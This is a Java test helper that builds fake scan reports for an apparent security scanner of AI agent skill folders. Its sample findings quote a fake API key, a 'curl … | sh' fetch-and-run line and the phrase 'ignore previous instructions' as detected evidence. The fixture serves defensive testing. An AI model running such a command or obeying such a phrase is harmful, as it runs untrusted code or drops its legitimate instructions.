package dev.assay.engine.report;

import dev.assay.engine.model.Attestation;
import dev.assay.engine.model.Coverage;
import dev.assay.engine.model.Evidence;
import dev.assay.engine.model.Finding;
import dev.assay.engine.model.Report;
import dev.assay.engine.model.Severity;
import dev.assay.engine.model.TargetInfo;
import dev.assay.engine.spi.SkippedFile;
import java.math.BigDecimal;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Hand-built reports for the writer and reader tests; every fake value is inert. */
final class Reports {

    static final String RULES_HASH = "sha256:" + "ab".repeat(32);
    static final String FORMULA_HASH = "sha256:" + "cd".repeat(32);

    private Reports() {
    }

    static Map<String, Integer> counts(int critical, int high, int medium, int low, int info) {
        Map<String, Integer> counts = new LinkedHashMap<>();
        counts.put("critical", critical);
        counts.put("high", high);
        counts.put("medium", medium);
        counts.put("low", low);
        counts.put("info", info);
        return counts;
    }

    static Finding finding(String id, Severity severity, String category, String subject, List<Evidence> evidence) {
        return new Finding(id, "Title of " + id, severity, "risky_construct", category, "shell", List.of("ASI05", "MCP03"),
                subject, "Message for " + id + " on " + subject, "Fix " + id + " by removing it.", Finding.ACTIVE,
                evidence, "fp-" + id.toLowerCase(java.util.Locale.ROOT) + "-" + subject);
    }

    static Finding review(Finding f) {
        return new Finding(f.id(), f.title(), f.severity(), f.threatClass(), f.category(), f.capability(), f.controls(),
                f.subject(), f.message(), f.remediation(), Finding.NEEDS_REVIEW, f.evidence(), f.fingerprint());
    }

    static Report report(BigDecimal score, List<Finding> findings, List<Finding> needsReview, Map<String, Integer> counts,
            Coverage coverage) {
        return new Report(Report.SCHEMA_VERSION, "0.1.0", "skilltotal", "skilltotal", 2, FORMULA_HASH, "skilltotal-core",
                "1.2.0", RULES_HASH, new TargetInfo("skills/demo", "skill-folder", "sha256:" + "ef".repeat(32)), score,
                "suspicious", new Attestation(false, List.of("a critical finding is present")), "suspicious", counts,
                findings, needsReview, List.of("network", "shell"), coverage, "2025-01-02T03:04:05Z");
    }

    /** A small report with two categories, a review item and a skipped file. */
    static Report sample() {
        Finding secret = new Finding("ST-SECRET-001", "Hard-coded API key", Severity.CRITICAL, "malicious_indicator",
                "credentials", "", List.of("ASI03"), "scripts/setup.sh", "An API key is written into the script.",
                "Remove the key and rotate it.", Finding.ACTIVE,
                List.of(new Evidence("scripts/setup.sh", 12, 12, "KEY=sk-ant-api03-FAKEFAKE…")), "fp-secret");
        Finding curl = finding("ST-EXEC-002", Severity.HIGH, "execution", "scripts/run.sh",
                List.of(new Evidence("scripts/run.sh", 3, 5, "curl https://example.invalid/x | sh")));
        Finding perm = finding("ST-EXEC-003", Severity.LOW, "execution", "scripts/run.sh",
                List.of(new Evidence("scripts/run.sh", 0, 0, "")));
        Finding doc = review(finding("ST-DOC-004", Severity.MEDIUM, "documentation", "SKILL.md",
                List.of(Evidence.at("SKILL.md", 7, "ignore previous instructions"))));
        return report(new BigDecimal("38"), List.of(secret, curl, perm), List.of(doc), counts(1, 1, 0, 1, 0),
                new Coverage(4, List.of(new SkippedFile("assets/big.bin", "larger than 1 MiB"))));
    }

    /** The sample report with structured details on its high finding (an advisory-style list of objects). */
    static Report detailed() {
        Report r = sample();
        List<Finding> findings = new java.util.ArrayList<>(r.findings());
        Finding f = findings.get(1);
        Map<String, Object> details = new LinkedHashMap<>();
        details.put("version", "2026.1.20");
        details.put("advisories", List.of(
                Map.of("id", "CVE-2026-0001", "summary", "first fake advisory", "affected", "<2026.1.29"),
                Map.of("id", "CVE-2026-0002", "summary", "second fake advisory", "affected", ">=1.0 <2026.2.2")));
        details.put("fixedVersion", "2026.2.2");
        details.put("count", 2);
        findings.set(1, new Finding(f.id(), f.title(), f.severity(), f.threatClass(), f.category(), f.capability(),
                f.controls(), f.subject(), f.message(), f.remediation(), f.status(), f.evidence(), f.fingerprint(),
                details));
        return new Report(r.schemaVersion(), r.scannerVersion(), r.scorer(), r.formula(), r.formulaVersion(), r.formulaHash(),
                r.pack(), r.packVersion(), r.rulesHash(), r.target(), r.score(), r.level(), r.attestation(), r.verdict(),
                r.counts(), findings, r.needsReview(), r.capabilities(), r.coverage(), r.generatedAt());
    }

    /** A report without findings, review items, capabilities or skipped files. */
    static Report empty() {
        return new Report(Report.SCHEMA_VERSION, "0.1.0", "ass", "ass", 1, FORMULA_HASH, "ass-core", "1.0.0", RULES_HASH,
                new TargetInfo("agent", "agent-home", "sha256:00"), new BigDecimal("100"), "A", new Attestation(true, List.of()),
                null, counts(0, 0, 0, 0, 0), List.of(), List.of(), List.of(), new Coverage(0, List.of()), null);
    }
}
